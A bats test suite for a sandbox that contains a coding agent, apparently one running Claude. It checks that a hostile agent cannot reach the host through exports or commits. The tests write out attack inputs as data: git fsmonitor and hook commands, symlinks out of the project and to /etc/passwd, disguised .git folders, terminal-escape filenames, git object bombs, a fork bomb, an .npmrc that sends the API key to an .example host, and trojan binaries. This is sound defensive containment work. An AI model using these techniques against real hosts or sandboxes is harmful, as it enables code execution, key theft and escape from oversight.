#!/usr/bin/env bats
# A hostile cage: an agent that attacks the host by files, links, names, repositories, git's objects, the terminal, or
# by what a verb might run. Each test leaves the cage as it found it, but for the last two, whose traps stay.

load cages

setup_file() { make_cage hostile; }
teardown_file() { remove_cage; }

setup() {
    GIT_BEFORE=$(fingerprint "$CLONE/.git")
}

teardown() {
    [ ! -e "$CLONE/xargs" ] || return 0
    # No export touches the host's .git.
    [[ $BATS_TEST_DESCRIPTION != export:* ]] || [ "$GIT_BEFORE" = "$(fingerprint "$CLONE/.git")" ]
    [ "$(docker inspect -f '{{.State.Running}}' "isolated-dev-$CAGE")" = true ] || tc start "$CAGE"
    inside_as_root <<<'find . -mindepth 1 -maxdepth 1 ! -name .git -exec rm -rf {} +; rm -f .git/objects/info/alternates .git/objects/pack/x.idx'
    anew
    git -C "$CLONE" checkout --quiet --force trunk
    git -C "$CLONE" reset --quiet --hard "$(cat "$ENV/.history/seeded")"
    git -C "$CLONE" clean -qffdx
    git -C "$CLONE" for-each-ref --format='%(refname:short)' refs/heads | grep -v '^trunk$' | xargs -r git -C "$CLONE" branch -qD
    cp "$ENV/.history/base.seeded" "$ENV/.history/base"
    [ "$(docker inspect -f '{{.State.Paused}}' "isolated-dev-$CAGE")" = false ]
}

# The run must end, and long before the bomb went off.
bounded() {
    timeout 100 "$@"
}

@test "export: .git at the root as a link to a prepared folder is refused" {
    inside <<'SH'
mv .git /tmp/real.git
mkdir -p evil; git init -q evil/repo; mv evil/repo/.git evil/git; rmdir evil/repo
printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >>evil/git/config
ln -s evil/git .git
SH
    run -3 tc export "$CAGE" -y
    says '  .git: is '
    says 'nothing was written'
    run -3 tc export "$CAGE" -y --skip-refused
    [ ! -L "$CLONE/.git" ]
    [ ! -e "$CLONE/evil/git/HEAD" ]
    git -C "$CLONE" status >/dev/null
    [ ! -e /tmp/pwned ]
    inside <<<'rm .git; mv /tmp/real.git .git; rm -rf evil'
}

@test "export: .git as a file or folder in another place or spelling is refused" {
    inside <<'SH'
echo 'gitdir: ../evil' >lib/.git
mkdir -p a/.GIT b/.git. c/git~1 d/.git
echo x | tee a/.GIT/config b/.git./config c/git~1/config d/.git/config >/dev/null
mkdir "e$(printf '\342\200\214')"; mkdir "f"; mkdir "f/.g$(printf '\342\200\214')it"; echo x >"f/.g$(printf '\342\200\214')it/config"
mkdir -p bare.git/objects bare.git/refs; echo 'ref: refs/heads/main' >bare.git/HEAD
SH
    run -3 tc export "$CAGE" -y --skip-refused
    for path in lib/.git a/.GIT b/.git. c/git~1 d/.git 'f/.g\u200cit' bare.git; do says "  $path: is "; done
    [ -z "$(find "$CLONE" -mindepth 2 -iname '*git*' -not -path "$CLONE/.git/*")" ]
}

@test "export: links that leave the project are refused, straight or in two steps; inner links arrive" {
    inside <<'SH'
ln -s /etc/passwd absolute
ln -s ../../outside climbing
ln -s .git/config into-git
ln -s ../.git/config lib/into-git
mkdir -p deep/er
ln -s deep/er hop
ln -s hop/../../.. two-steps
ln -s ../README lib/inner
SH
    run -3 tc export "$CAGE" -y --skip-refused
    for path in absolute climbing into-git lib/into-git two-steps; do says "  $path: is a link"; done
    [ "$(readlink "$CLONE/lib/inner")" = ../README ]
    [ "$(readlink "$CLONE/hop")" = deep/er ]
    for path in absolute climbing into-git two-steps; do [ ! -L "$CLONE/$path" ]; done
}

@test "export: special files are refused without being opened, a large sparse one without being read" {
    inside <<'SH'
mkfifo pipe
truncate -s 50G sparse
python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("sock")'
SH
    run -3 timeout 60 tc export "$CAGE" -y --skip-refused
    says '  pipe: is a FIFO'
    says '  sock: is a socket'
    says '  sparse: is larger than 100 MiB'
    [ ! -e "$CLONE/pipe" ] && [ ! -e "$CLONE/sparse" ] && [ ! -e "$CLONE/sock" ]
}

@test "export: hostile names: options stay names, control characters are refused and never printed raw" {
    inside <<'SH'
echo 1 >-rf; echo 2 >--delete
echo 3 >"$(printf 'title\033]0;owned\007')"
echo 4 >"$(printf 'two\nlines')"
echo 5 >"$(printf 'bidi\342\200\256txt')"
echo 6 >"$(printf 'bad\377')"
echo 7 >readme
SH
    run -3 tc export "$CAGE" -y --skip-refused
    says 'title\x1b]0;owned\x07: has invisible or control characters'
    says 'two\nlines: has invisible'
    says 'bidi\u202etxt: has invisible'
    says 'readme: is README on file systems that fold case'
    says_not $'\033'
    says_not $'\342\200\256'
    [ "$(cat "$CLONE/-rf")" = 1 ]
    [ "$(cat "$CLONE/--delete")" = 2 ]
}

@test "export: a folder that the host's owner made a link is not written through" {
    mkdir "$BATS_TEST_TMPDIR/elsewhere"
    mv "$CLONE/lib" "$BATS_TEST_TMPDIR/kept"
    ln -s "$BATS_TEST_TMPDIR/elsewhere" "$CLONE/lib"
    inside <<<'echo x >>lib/code.txt; echo y >lib/new.txt'
    run -3 tc export "$CAGE" -y --skip-refused
    says 'lies below lib, which is no folder on the host'
    [ -z "$(ls "$BATS_TEST_TMPDIR/elsewhere")" ]
    [ -L "$CLONE/lib" ]
    rm "$CLONE/lib" && mv "$BATS_TEST_TMPDIR/kept" "$CLONE/lib"
}

@test "export: links whose way is endless are refused, and soon" {
    inside <<'SH'
git checkout -q . && git clean -fdqx
tail=$(printf '/x%.0s' {1..1900})
for i in {1..38}; do ln -s "l$((i + 1))$tail" "l$i"; done
SH
    run -3 timeout 60 tc export "$CAGE" --dry-run
    says 'l1: is a link that leaves the project through another one'
}

@test "commits: the agent's git configuration, hooks, links and alternates are not used" {
    inside <<'SH'
echo x >x.txt; git add x.txt; git commit -q -m X
git config core.fsmonitor 'touch /tmp/pwned'
git config core.sshCommand 'touch /tmp/pwned'
git config uploadpack.packObjectsHook 'touch /tmp/pwned'
printf '#!/bin/sh\ntouch /tmp/pwned\n' >.git/hooks/post-update 2>/dev/null || { mkdir .git/hooks; printf '#!/bin/sh\ntouch /tmp/pwned\n' >.git/hooks/post-checkout; chmod 755 .git/hooks/*; }
SH
    run -0 tc export "$CAGE" --commits --as agent
    [ ! -e /tmp/pwned ]
    run ! docker exec "isolated-dev-$CAGE" test -e /tmp/pwned
    inside <<<'git config --unset core.fsmonitor; git config --unset core.sshCommand; git config --unset uploadpack.packObjectsHook; rm -rf .git/hooks'
}

@test "commits: a tree with .git in it is refused by git before the clone has it" {
    inside <<'SH'
blob=$(echo '[core]' | git hash-object -w --stdin)
tree=$(printf '100644 blob %s\tconfig\n' "$blob" | git mktree)
outer=$(printf '040000 tree %s\t.git\n' "$tree" | git mktree)
git update-ref refs/heads/main "$(git commit-tree -p HEAD -m evil "$outer")"
SH
    run -3 tc export "$CAGE" --commits --as agent
    run ! git -C "$CLONE" rev-parse --verify --quiet agent
}

# Nothing landed, nothing ran, and no byte of the agent's reached the terminal.
nothing_came() {
    [ -z "$(git -C "$CLONE" status --porcelain)" ]
    [ -z "$(git -C "$CLONE" for-each-ref --format='%(refname)' "refs/heads/cage" )" ]
    [ ! -e "$BATS_TEST_TMPDIR/ran" ] && [ ! -e /tmp/outward-ran ]
    says_not $'\033'
}

@test "commits: a tag whose message is commands, as HEAD or in its branch's file, is an error in words" {
    for way in 'git update-ref --no-deref refs/heads/main' 'printf "%s\n"'; do
        inside <<SH
git config user.name x; git config user.email x@x
commit=\$(git commit-tree -p HEAD -m 'harmless' "HEAD^{tree}")
message=\$(printf 'x\n\ncommit refs/heads/work\ncommitter x <x> 1 +0000\ndata 1\nx\nM 120000 inline out\ndata 4\n/etc\nprogress \033]0;OWNED\007\ndone\n')
tag=\$(printf 'object %s\ntype commit\ntag v\ntagger x <x> 1 +0000\n\n%s\n' "\$commit" "\$message" | git hash-object -t tag -w --stdin --literally)
case '$way' in
    printf*) printf '%s\n' "\$tag" >.git/HEAD ;;
    *) printf '%s\n' "\$tag" >.git/refs/heads/main ;;
esac
SH
        run -3 tc export "$CAGE" --commits
        says "HEAD names a tag, where a commit belongs"
        says_not 'Nothing new'
        nothing_came
        run -0 tc status "$CAGE"
        says '? commits inside'
        anew
    done
}

@test "commits: messages, names and contents are data, whatever they say" {
    inside <<'SH'
printf 'data 3\nabc\ncommit refs/heads/other\n' >"$(printf 'a "q"\\n b')"
git add --all
printf 'One\n\nM 120000 inline out\ndata 4\n/etc\nprogress \033]0;OWNED\007\ndone\n' >/tmp/message
git -c user.name="$(printf 'A \033[31mred')" commit -q -F /tmp/message
SH
    run -0 tc export "$CAGE" --commits
    says_not $'\033'
    run -0 git -C "$CLONE" --no-pager log -1 --format='%an%n%B' "cage/$CAGE"
    says 'M 120000 inline out'
    says_not $'\033'
    run -0 git -C "$CLONE" ls-tree -r --name-only "cage/$CAGE"
    says_not out
    [ "$(git -C "$CLONE" for-each-ref --format='%(refname)' refs/heads)" = "refs/heads/cage/$CAGE"$'\nrefs/heads/trunk' ]
}

@test "export: a bare repository does not land in parts, whichever comes first" {
    inside <<<'mkdir -p bb/objects bb/refs; touch bb/objects/a bb/refs/a'
    run -0 tc export "$CAGE" -y
    inside <<<'echo "ref: refs/heads/x" >bb/HEAD; printf "[core]\n\tfsmonitor = touch /tmp/outward-ran\n" >bb/config'
    run -3 tc export "$CAGE" -y
    says 'bb/HEAD: is a bare git repository'
    [ ! -e "$CLONE/bb/HEAD" ] && [ ! -e "$CLONE/bb/config" ]
    for how in branch commits; do
        inside <<<'git add --all; git diff --quiet --cached || git commit -q -m bare'
        run -3 tc export "$CAGE" --$how
        says 'is a bare git repository'
        run ! git -C "$CLONE" rev-parse --verify --quiet "cage/$CAGE"
    done
    (cd "$CLONE/bb" && git status >/dev/null)
    [ ! -e /tmp/outward-ran ]
}

@test "branch, commits: a repository made with what is checked out or lies beside is refused" {
    mkdir -p "$CLONE/cc/objects" "$CLONE/cc/refs"
    inside <<<'mkdir cc; echo "ref: refs/heads/x" >cc/HEAD; git add --all; git commit -q -m head'
    for how in branch commits; do
        run -3 tc export "$CAGE" --$how
        says 'cc/HEAD: is a bare git repository'
        run ! git -C "$CLONE" rev-parse --verify --quiet "cage/$CAGE"
    done
    rm -r "$CLONE/cc"
    mkdir -p "$CLONE/cc/objects" "$CLONE/cc/refs"
    touch "$CLONE/cc/objects/a" "$CLONE/cc/refs/a"
    git -C "$CLONE" add --all
    git -C "$CLONE" commit -q -m mine
    rm -r "$CLONE/cc"
    for how in branch commits; do
        run -3 tc export "$CAGE" --$how
        says 'cc/HEAD: is a bare git repository'
    done
}

@test "export: another case of a name may replace it, and may not stand beside it; a link of the owner's is not led out" {
    mkdir "$CLONE/p"
    ln -s a/../../y "$CLONE/p/x"
    inside <<<'mkdir p; ln -s ../lib p/a; git mv README readme'
    run -3 tc export "$CAGE" -y
    says 'p/a: leads p/x out of the project'
    inside <<<'rm p/a'
    run -0 tc export "$CAGE" -y
    [ -e "$CLONE/readme" ] && [ ! -e "$CLONE/README" ]
    inside <<<'echo x >ReadMe'
    run -3 tc export "$CAGE" -y
    says 'ReadMe: is readme on file systems that fold case or Unicode'
}

@test "export: a repository whose objects, refs and configuration lie in another folder is refused" {
    inside <<'SH'
mkdir -p wt common/objects common/refs
echo 'ref: refs/heads/main' >wt/HEAD; echo ../common >wt/commondir
touch common/objects/x common/refs/x
printf '[core]\n\trepositoryformatversion = 1\n\tfsmonitor = touch %s\n[extensions]\n\tworktreeConfig = true\n' /tmp/pwned >common/config
printf '[core]\n\tbare = false\n\tworktree = .\n' >wt/config.worktree
SH
    run -3 tc export "$CAGE" -y --skip-refused
    says '  wt: is a bare git repository'
    [ ! -e "$CLONE/wt" ]
}

@test "export: .git with letters that some file systems ignore, and names that only those tell apart, are refused" {
    inside <<'SH'
mkdir a; echo x >"a/.g$(printf '\343\205\244')it"
echo x >"b$(printf '\357\276\240')c"
echo x >"README$(printf '\357\270\217')"
SH
    run -3 tc export "$CAGE" -y --skip-refused
    says 'is a git folder in another place or spelling'
    says 'has invisible or control characters'
    says 'is README on file systems that fold case'
}

@test "export: a terabyte of sparse files is refused without being read" {
    inside <<<'for i in $(seq 10000); do echo "sparse$i"; done | xargs truncate -s 100M'
    run -2 bounded make -C "$ENV" export CAGE_DRY_RUN=1 CAGE_LIMIT_TOTAL=300000000
    says 'brings the export over 286 MiB in all'
}

@test "export: what the host runs later is pointed out in any case, and as a link" {
    inside <<<'mkdir .VSCode d; echo {} >.VSCode/tasks.json; echo {} >d/tasks.json; ln -s d .husky; ln -s d .claude; echo all: >MAKEFILE'
    run -0 tc export "$CAGE" -y
    for line in '.vscode/tasks.json ×1: .VSCode/tasks.json' '.husky/ ×2: ./.husky, d/tasks.json' '.claude/ ×2: ./.claude, d/tasks.json' \
        'Makefile ×1: ./MAKEFILE'; do says "    $line"; done
    inside <<<'echo [] >d/tasks.json'
    run -0 tc export "$CAGE" -y
    says '    .husky/ ×1: d/tasks.json'
}

@test "export: decoys by the thousand hide no name, and all of it is in the file that is named" {
    inside <<'SH'
for i in 1 2 3 4; do
    mkdir -p "!/$i"
    (cd "!/$i" && touch $(seq -f 'a%g.mk' 500) && mkdir $(seq 500) && for d in [0-9]*; do : >$d/.envrc; done && touch $(seq -f x%g.sh 300) && chmod +x x*)
done
mkdir -p deep/down; touch deep/down/Jenkinsfile .envrc .pdbrc
SH
    run -0 --separate-stderr tc export "$CAGE" --dry-run
    says $'\n  the shell\n    .envrc ×2001: ./.envrc, !/1/1/.envrc, !/1/10/.envrc, …\n'
    says $'\n    .pdbrc ×1: ./.pdbrc\n'
    says $'\n    *.mk ×2000: '
    says $'\n  CI\n    Jenkinsfile ×1: deep/down/Jenkinsfile\n'
    says $'\n    and 280 more names\n'
    says $'\n  A  !/  (5200 files)\n'
    says "All of it: $ENV/.state/export/stage/plan.txt"
    [ "$(grep -c $'\t' "$ENV/.state/export/stage/plan.txt")" = 5203 ]
    [ "$(grep -c '^  A  ' "$ENV/.state/export/stage/plan.txt")" = 5203 ]
    grep -Fx $'CI\tJenkinsfile\tdeep/down/Jenkinsfile' "$ENV/.state/export/stage/plan.txt"
    run -0 --separate-stderr tc export "$CAGE" --dry-run --json
    [ "$(python3 -c 'import json, sys; print(sum(len(row["paths"]) for row in json.load(sys.stdin)["runs_later"]))' <<<"$output")" = 5203 ]
}

@test "export: the folder that core.hooksPath names is pointed out, in full as well" {
    git -C "$CLONE" config core.hooksPath "$CLONE/tools/own"
    inside <<<'mkdir -p tools/own; echo x >tools/own/pre-commit'
    run -0 tc export "$CAGE" -y
    git -C "$CLONE" config --unset core.hooksPath
    says '    tools/own/ ×1: tools/own/pre-commit'
}

@test "sync: a draft's name that the agent has taken, and a huge file in the place of a small one" {
    inside <<<'mkdir lib/.trusty-cage.incoming .trusty-cage.incoming; rm run.sh; truncate -s 8T run.sh'
    echo host >>"$CLONE/README"; echo host >>"$CLONE/lib/code.txt"
    run -0 bounded tc sync "$CAGE" -y
    [ "$(docker exec "isolated-dev-$CAGE" tail -n 1 lib/code.txt)" = host ]
    echo host >>"$CLONE/run.sh"
    run -3 bounded tc sync "$CAGE" -y --take host
    says 'run.sh: stands in the way'
}

@test "commits: objects that git would wait on, read without end or look for elsewhere are an error, and soon" {
    for trap in 'mkfifo .git/objects/info/alternates' 'ln -s /dev/zero .git/objects/info/alternates' \
        'printf "/nowhere/\302\2330;OWNED\302\234\n" >.git/objects/info/alternates' 'mkfifo .git/objects/pack/x.idx'; do
        inside <<<"$trap"
        run -3 bounded tc export "$CAGE" --commits
        says "the cage's .git has "
        says_not OWNED
        run -0 bounded tc status "$CAGE"
        says '? commits inside'
        inside <<<'rm -f .git/objects/info/alternates .git/objects/pack/x.idx'
    done
}

@test "commits: a blob of a gigabyte, a tree of billions and a tree that git dies of are an error, and soon" {
    inside <<'SH'
git rev-list --max-parents=0 HEAD >/tmp/first
truncate -s 1G /tmp/big
blob=$(git -c core.bigFileThreshold=1m -c pack.compression=1 hash-object -w /tmp/big)
git update-ref HEAD "$(git commit-tree -p HEAD -m big "$(printf "100644 blob $blob\tbig\n" | git mktree)")"
SH
    run -3 bounded tc export "$CAGE" --commits
    says 'nothing was written'
    inside <<'SH'
git update-ref HEAD "$(cat /tmp/first)"
blob=$(echo x | git hash-object -w --stdin)
tree=$(for i in 0 1 2 3 4 5 6 7 8 9; do printf "100644 blob $blob\tf$i\n"; done | git mktree)
for d in 1 2 3 4 5 6 7 8 9; do tree=$(for i in 0 1 2 3 4 5 6 7 8 9; do printf "040000 tree $tree\td$i\n"; done | git mktree); done
git update-ref HEAD "$(git commit-tree -p HEAD -m bomb "$tree")"
SH
    run -3 bounded tc export "$CAGE" --commits
    says "brings the host clone over 1000000 entries"
    inside <<'SH'
git update-ref HEAD "$(cat /tmp/first)"
cat >/tmp/deep.py <<'PY'
import hashlib, os, subprocess, zlib
def put(kind, data):
    data = b"%s %d\0" % (kind, len(data)) + data
    name = hashlib.sha1(data).hexdigest()
    os.makedirs(f".git/objects/{name[:2]}", exist_ok=True)
    with open(f".git/objects/{name[:2]}/{name[2:]}", "wb") as file:
        file.write(zlib.compress(data, 1))
    return name.encode()
first = subprocess.check_output(["git", "rev-parse", "HEAD", "HEAD^{tree}"]).split()
tree = put(b"tree", b"100644 f\0" + bytes.fromhex(put(b"blob", b"x").decode()))
for _ in range(60000):
    tree = put(b"tree", b"40000 d\0" + bytes.fromhex(tree.decode()))
who = b"A" * 30000 + b" <a@b> 1 +0000"
one = put(b"commit", b"tree %s\nparent %s\nauthor %s\ncommitter %s\n\nm\n" % (first[1], first[0], who, who[-20:]))
two = put(b"commit", b"tree %s\nparent %s\nauthor %s\ncommitter %s\n\nm\n" % (tree, one, who[-20:], who[-20:]))
open(".git/refs/heads/main", "wb").write(two + b"\n")
PY
git checkout -q -B main; python3 /tmp/deep.py
SH
    run -3 bounded tc export "$CAGE" --commits
    says 'is deeper than 100 folders'
}

@test "commits: git refuses the agent's objects, and what its words repeat of the agent's is escaped and bounded" {
    inside <<'SH'
{
    printf '[submodule "x"]\n\tpath = x\n\turl = "-x'
    for i in $(seq 50); do printf '\\nerror: OWNED line %s' $i; done
    printf '\\n\302\2330;31mRED"\n'
} >.gitmodules
git add -f .gitmodules; git commit -q -m Url
SH
    run -3 tc export "$CAGE" --commits
    says "error: git did not take the work onto branch 'cage/$CAGE', and says why, above"
    says '  fatal: '
    says_not $'\nerror: OWNED'
    [ "$(grep -c OWNED <<<"$output")" -lt 15 ]
    for bytes in $'\e' $'\302\233'; do says_not "$bytes"; done
}

@test "terminal: what is cut out of a diff brings nothing together; no lone control byte passes" {
    inside <<'SH'
printf 'a\302\302\235\23552;c;QUFB b\302\342\200\256\233c \342\200\342\200\256\256d \2331me \330\234f caf\303\251\n' >>README
SH
    NO_COLOR=1 run -0 on_terminal "tc export $CAGE --diff --dry-run"
    for bytes in $'\302\233' $'\302\235' $'\342\200\256' $'\330\234'; do says_not "$bytes"; done
    says '?1me'
    says 'café'
}

@test "dotfiles: a link in them is not written through" {
    dots=$BATS_TEST_TMPDIR/dots
    make_repo "$dots"
    echo mine >"$BATS_TEST_TMPDIR/mine"
    printf '[user]\n\tname = theirs\n[credential]\n\thelper = store\n' >"$dots/.gitconfig"
    ln -s "$BATS_TEST_TMPDIR/mine" "$dots/.gitconfig.kept"
    ln -s "$BATS_TEST_TMPDIR/mine" "$dots/.left-out"
    mkdir -p "$BATS_TEST_TMPDIR/env/.state/clone" && cd "$BATS_TEST_TMPDIR/env" && ln -s "$ENV/lib" lib
    run -0 bash lib/create/strip-dotfiles "$dots"
    says 'left out of the dotfiles: .gitconfig: credential settings and tokens'
    [ "$(cat "$BATS_TEST_TMPDIR/mine")" = mine ]
    [ "$(cat "$dots/.gitconfig")" = $'[user]\n\tname = theirs' ]
}

@test "dotfiles: no name in them names anything outside, whatever it holds; credentials under other names stay out too" {
    mkdir -p "$BATS_TEST_TMPDIR/victim/.ssh"
    echo key >"$BATS_TEST_TMPDIR/victim/.ssh/id"
    printf '[credential]\n\thelper = mine\n' >"$BATS_TEST_TMPDIR/victim/.gitconfig"
    before=$(fingerprint "$BATS_TEST_TMPDIR/victim")
    dots=$BATS_TEST_TMPDIR/dots
    make_repo "$dots"
    mkdir -p "$dots/a"$'\n'"$BATS_TEST_TMPDIR/victim/.ssh" "$dots/config/gh" "$dots/dot_ssh"
    echo x >"$dots/a"$'\n'"$BATS_TEST_TMPDIR/victim/.ssh/x"
    printf '[credential]\n\thelper = x\n' >"$dots/a"$'\n'"$BATS_TEST_TMPDIR/victim/.gitconfig"
    printf '[core]\n\tpager = less\n[credential "https://x"]\n\thelper = store\n' >"$dots/git-common"
    ln -s git-common "$dots/.gitconfig"
    touch "$dots/config/gh/hosts.yml" "$dots/dot_ssh/key" "$dots/.pgpass" "$dots/.env"
    mkdir -p "$BATS_TEST_TMPDIR/env/.state/clone" && cd "$BATS_TEST_TMPDIR/env" && ln -s "$ENV/lib" lib
    run -0 bash lib/create/strip-dotfiles "$dots"
    [ "$before" = "$(fingerprint "$BATS_TEST_TMPDIR/victim")" ]
    [ "$(cat "$dots/git-common")" = $'[core]\n\tpager = less' ]
    for gone in config/gh dot_ssh .pgpass .env; do
        says "left out of the dotfiles: $gone"
        [ ! -e "$dots/$gone" ]
    done
}

@test "auth: a FIFO in the place of the credentials is not waited for" {
    mkdir -p "$BATS_TEST_TMPDIR/user/.claude"
    echo '{"claudeAiOauth":{"accessToken":"token-canary"}}' >"$BATS_TEST_TMPDIR/user/.claude/.credentials.json"
    inside <<<'mkdir -p ~/.claude; rm -f ~/.claude/.credentials.json; mkfifo ~/.claude/.credentials.json'
    HOME=$BATS_TEST_TMPDIR/user run -0 timeout 30 tc auth "$CAGE" --auth-mode subscription
    run -0 docker exec "isolated-dev-$CAGE" sh -c 'stat -c "%F %a" ~/.claude/.credentials.json; cat ~/.claude/.credentials.json'
    [[ $output = $'regular file 600\n{"claudeAiOauth":{"accessToken":"sk-ant-oat01-'* ]]
    says_not canary
    run -0 tc auth "$CAGE" --auth-mode api_key
}

@test "no error of the engine's steers the terminal" {
    inside_as_root <<'SH'
name=$(printf '/x\033]0;taken over\007\302\2331m')
touch "$name"
mv /sbin /sbin.old
ln -s "$name" /sbin
SH
    run -0 tc stop "$CAGE"
    run -1 tc start "$CAGE"
    says 'taken over'
    says 'the engine could not start a container of this cage'
    [ "${lines[-1]}" = "Try again. If it stays so: tc recreate $CAGE" ]
    says_not $'\033'
    says_not $'\007'
    says_not $'\302\233'
    run -2 make -C "$ENV" exec CAGE_CMD=true
    says_not $'\033'
    run -0 tc recreate "$CAGE" -y
    run -0 tc exec "$CAGE" -- true
}

@test "pause: under a storm of forks an export works or names the way out, and the cage runs on" {
    tc set "$CAGE" pids=300 >/dev/null
    docker exec --detach "isolated-dev-$CAGE" bash -c 'f() { while :; do (f) & :; done; }; ulimit -c 0; for i in 1 2 3; do f & done; wait'
    sleep 2
    for _ in 1 2 3; do
        run timeout 100 tc export "$CAGE" --dry-run
        [ "$status" = 0 ] || says "Stop it first, its work is kept: tc stop $CAGE"
        [ "$(docker inspect -f '{{.State.Paused}}' "isolated-dev-$CAGE")" = false ]
    done
    run -0 timeout 60 tc stop "$CAGE"
    run -0 timeout 100 tc export "$CAGE" --dry-run
}

# No verb runs, reads or imports exported files: each is typed in the clone, with '.' first in PATH, and the clone has a
# trap for each program, module and setting.

# In the cage: programs, modules and settings that leave a mark on the host, the programs of the recipes among them.
traps() {
    inside <<SH
mkdir -p bin pip
for name in awk bash cat chmod cmp comm cp cut date diff docker env find git grep head id ip ln ls make mkdir mktemp mv node npm \
    perl pip ps python python3 readlink rm rmdir sed seq sh sha256sum sleep sort stty tail tar tee touch tr uname wc xargs; do
    printf '#!/bin/sh\necho %s >>$BATS_FILE_TMPDIR/mark\nexit 97\n' "\$name" >bin/\$name
    chmod 755 bin/\$name
    [ -d \$name ] || cp bin/\$name .
done
for module in pip/__init__ sh dotenv jinja2 json argparse sitecustomize usercustomize; do
    echo "open('$BATS_FILE_TMPDIR/mark', 'a').write('\$module')" >\$module.py
done
echo 'registry=https://\${ANTHROPIC_API_KEY}.example/' >.npmrc
echo TRUSTY_CAGE_PIDS=none >.env
printf 'x:\n\ttouch %s\n' "$BATS_FILE_TMPDIR/mark" >Makefile
SH
}

# Type a command in the clone.
typed() {
    local program
    program=$(command -v "$1")
    cd "$CLONE" || return
    PATH=.::bin:$PATH: ANTHROPIC_API_KEY=canary TMPDIR=. XDG_CONFIG_HOME=. run -0 "$program" "${@:2}" </dev/null
    cd "$BATS_TEST_TMPDIR" || return
    [ ! -e "$BATS_FILE_TMPDIR/mark" ] || { echo "$*: $(cat "$BATS_FILE_TMPDIR/mark")"; return 1; }
}

@test "no verb uses the clone that it is typed in, nor do its recipes there" {
    traps
    run -0 tc export "$CAGE" -y
    [ -x "$CLONE/xargs" ]
    for words in "start $CAGE" "status $CAGE" "exec $CAGE -- true" list "render $CAGE" "diff-recipes $CAGE" "auth $CAGE"; do
        # shellcheck disable=SC2086 # a command's words
        typed tc $words
    done
    inside <<<'echo more >more; rm -r lib'
    typed tc export "$CAGE" -y --diff
    [ "$(cat "$CLONE/more")" = more ] && [ ! -e "$CLONE/lib" ]
    typed tc export "$CAGE" --undo -y
    [ ! -e "$CLONE/more" ] && [ -e "$CLONE/lib/code.txt" ]
    typed make -C "$ENV" export CAGE_YES=1
    [ ! -e "$CLONE/lib" ]
    typed make -C "$ENV" export CAGE_TO=branch
    typed make -C "$ENV" export CAGE_TO=commits CAGE_AS=theirs
    echo host >>"$CLONE/README"
    typed make -C "$ENV" sync CAGE_YES=1
    [ "$(tc exec "$CAGE" -- tail -n 1 README)" = host ]
    typed tc stop "$CAGE"
    typed make -C "$ENV" recreate CAGE_YES=1
}

@test "doctor in the clone: nothing of it is run, no secret is in what is asked" {
    cd "$CLONE"
    PATH=.::bin:$PATH ANTHROPIC_API_KEY=canary run "$(command -v tc)" doctor
    [ "$status" -lt 2 ]
    says 'engine'
    says_not canary
    says_not .example
    [ ! -e "$BATS_FILE_TMPDIR/mark" ]
}
